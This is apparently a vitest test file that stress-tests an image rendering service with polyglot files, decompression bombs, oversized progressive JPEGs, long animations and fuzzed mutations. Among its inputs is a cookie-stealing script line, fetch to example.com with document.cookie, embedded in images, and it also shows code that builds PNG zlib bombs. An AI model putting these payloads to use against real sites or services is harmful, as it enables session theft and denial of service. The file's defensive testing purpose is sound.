import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { PhotoError } from '#art/node/photo-error.ts';
import { startRenderService } from '#art/node/render-service.ts';
import { fixtureFile } from '../fixtures/fixture-file.ts';
import { makeBmp } from '../fixtures/make-bmp.ts';
import { mutateFile, seededRandom } from '../fixtures/mutate-file.ts';
import { untilEnd } from './until-end.ts';

/** `npm run test:long` takes ten thousand. */
const MUTATIONS = Number(process.env.STRESS_MUTATIONS ?? 250);
const SIDE = 48;

let died = 0;
const renderer = await untilEnd(
  startRenderService({
    workers: 2,
    maxWaiting: 8,
    threads: 1,
    log: { info: () => {}, warn: () => died++ },
  }),
);

const noise = Buffer.from(Array.from({ length: SIDE * SIDE * 3 }, (_, at) => (at * 7919) % 251));
const picture = () => sharp(noise, { raw: { width: SIDE, height: SIDE, channels: 3 } });
const text = (content: string) => Buffer.from(content, 'latin1');

/** A worker's answer to a file: the picture's sides, or the reason of a rejection. Anything else is a fault. */
async function outcomeOf(file: Uint8Array): Promise<string> {
  try {
    const { width, height, format } = await sharp(await renderer.prepare(file)).metadata();
    return `${format} ${width}×${height}`;
  } catch (error) {
    if (error instanceof PhotoError) return error.code;
    throw error;
  }
}

describe('files that are two things at once', () => {
  const script = '<script>fetch("https://example.com/?"+document.cookie)</script>';
  const zip = Buffer.concat([text('PK\x03\x04'), Buffer.alloc(200, 7), text('PK\x05\x06')]);
  const kinds: Record<string, () => Promise<Buffer>> = {
    'a JPEG with a ZIP behind it': async () => Buffer.concat([await picture().jpeg().toBuffer(), zip]),
    'a GIF with a script behind it': async () =>
      Buffer.concat([await picture().gif().toBuffer(), text(script)]),
    'a PNG with a page behind it': async () =>
      Buffer.concat([await picture().png().toBuffer(), text(script)]),
    'a JPEG with a script in its comment': async () => {
      const file = await picture().jpeg().toBuffer();
      const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, script.length + 2]), text(script)]);
      return Buffer.concat([file.subarray(0, 2), comment, file.subarray(2)]);
    },
    'a JPEG with a script where EXIF says who made it': () =>
      picture()
        .withExif({ IFD0: { Artist: script, ImageDescription: script } })
        .jpeg()
        .toBuffer(),
  };
  test.each(Object.keys(kinds))('%s is a picture, and nothing but its pixels is kept', async (name) => {
    const file = (await kinds[name]?.()) ?? Buffer.alloc(0);
    expect(await outcomeOf(file)).toBe(`jpeg ${SIDE}×${SIDE}`);
    const kept = Buffer.from(await renderer.prepare(file)).toString('latin1');
    for (const part of ['script', 'PK\x03\x04', 'Exif', 'example.com']) expect(kept).not.toContain(part);
  });
});

describe('decompression bombs', () => {
  const memory = () => process.memoryUsage().rss;

  test('a colour profile and a text that unpack to hundreds of megabytes', async () => {
    const png = await picture().png().toBuffer();
    const { deflateSync, crc32 } = await import('node:zlib');
    const bomb = deflateSync(Buffer.alloc(200e6));
    const chunk = (type: string, head: string) => {
      const body = Buffer.concat([text(type), text(head), Buffer.from([0, 0]), bomb]);
      const frame = Buffer.alloc(8);
      frame.writeUInt32BE(body.length - 4, 0);
      frame.writeUInt32BE(crc32(body), 4);
      return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
    };
    const start = memory();
    for (const [type, head] of [
      ['zTXt', 'Comment'],
      ['iCCP', 'profile'],
    ] as const) {
      // Behind the header, which is always 33 bytes long.
      const file = Buffer.concat([png.subarray(0, 33), chunk(type, head), png.subarray(33)]);
      expect(['broken', `jpeg ${SIDE}×${SIDE}`]).toContain(await outcomeOf(file));
    }
    expect(memory() - start).toBeLessThan(400e6);
  });

  test('a progressive JPEG of ten thousand passes', async () => {
    const file = await picture().jpeg({ progressive: true }).toBuffer();
    // The last scan, over and over.
    const last = file.lastIndexOf(Buffer.from([0xff, 0xda]));
    const scan = file.subarray(last, -2);
    const passes = Buffer.concat([
      file.subarray(0, -2),
      ...Array.from({ length: 10_000 }, () => scan),
      file.subarray(-2),
    ]);
    const start = performance.now();
    expect(['broken', 'too-large', `jpeg ${SIDE}×${SIDE}`]).toContain(await outcomeOf(passes));
    expect(performance.now() - start).toBeLessThan(20_000);
  });

  test('an animation of a thousand frames costs one', async () => {
    const tall = await sharp({
      create: { width: 16, height: 16 * 1_000, channels: 3, background: 'red', pageHeight: 16 },
    })
      .gif({ loop: 0 })
      .toBuffer();
    expect(await outcomeOf(tall)).toBe('jpeg 16×16');
  });
});

test(`${MUTATIONS} damaged files: a picture or an error, no worker dies, memory does not grow`, async () => {
  const sources = await Promise.all([
    picture().jpeg().toBuffer(),
    picture()
      .jpeg({ progressive: true })
      .withExif({ IFD0: { Artist: 'x' } })
      .toBuffer(),
    picture().toColorspace('cmyk').jpeg().toBuffer(),
    picture().png().toBuffer(),
    picture().png({ palette: true, progressive: true }).toBuffer(),
    picture().toColorspace('rgb16').png().toBuffer(),
    picture().webp().toBuffer(),
    picture().webp({ lossless: true }).toBuffer(),
    picture().gif().toBuffer(),
    picture().avif({ effort: 0 }).toBuffer(),
    Buffer.from(makeBmp(SIDE, SIDE, 24, (x, y) => [x * 5, y * 5, 90])),
    Buffer.from(makeBmp(SIDE, SIDE, 8, (x) => [x * 5, 0, 90])),
    Buffer.from(fixtureFile('dog.heic')),
  ]);
  // HEIC files are decoded by another library, slowly: they come less often.
  const everyday = sources.slice(0, -1);
  const outcomes = new Map<string, number>();
  const start = process.memoryUsage().rss;
  let next = 0;
  const work = async () => {
    for (let turn = next++; turn < MUTATIONS; turn = next++) {
      const random = seededRandom(turn);
      const pool = turn % 25 === 0 ? sources : everyday;
      const file = pool[turn % 25 === 0 ? pool.length - 1 : turn % pool.length] ?? noise;
      const outcome = await outcomeOf(
        mutateFile(file, sources[(turn * 7) % sources.length] ?? noise, random),
      ).catch((error: unknown) => {
        throw new Error(`File ${turn} brought a worker down.`, { cause: error });
      });
      const kind = outcome.startsWith('jpeg') ? 'picture' : outcome;
      outcomes.set(kind, (outcomes.get(kind) ?? 0) + 1);
    }
  };
  await Promise.all([work(), work(), work(), work()]);
  expect(died).toBe(0);
  expect([...outcomes.values()].reduce((sum, count) => sum + count, 0)).toBe(MUTATIONS);
  // The damage is of all kinds: some files survive it, others do not.
  expect(outcomes.get('picture') ?? 0).toBeGreaterThan(MUTATIONS / 20);
  expect(outcomes.get('broken') ?? 0).toBeGreaterThan(MUTATIONS / 20);
  expect(process.memoryUsage().rss - start).toBeLessThan(700e6);
  expect(await outcomeOf(await picture().png().toBuffer())).toBe(`jpeg ${SIDE}×${SIDE}`);
}, 3_600_000);
